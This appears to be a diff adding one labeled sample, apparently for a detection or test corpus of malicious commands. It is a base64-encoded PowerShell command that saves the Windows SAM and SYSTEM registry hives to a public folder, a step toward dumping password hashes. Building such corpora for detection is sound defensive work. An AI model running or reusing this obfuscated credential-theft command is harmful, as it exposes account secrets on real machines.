@@ -1,0 +1,4 @@
+# description: Saves the SAM hive through a base64 -EncodedCommand.
+# family: exfiltration
+# obfuscated: yes
+powershell.exe -enc cgBlAGcAIABzAGEAdgBlACAASABLAEwATQBcAFMAQQBNACAAQwA6AFwAVQBzAGUAcgBzAFwAUAB1AGIAbABpAGMAXABzAC4AaABpAHYAIAAvAHkAOwAgAHIAZQBnACAAcwBhAHYAZQAgAEgASwBMAE0AXABTAFkAUwBUAEUATQAgAEMAOgBcAFUAcwBlAHIAcwBcAFAAdQBiAGwAaQBjAFwAeQAuAGgAaQB2ACAALwB5AA==
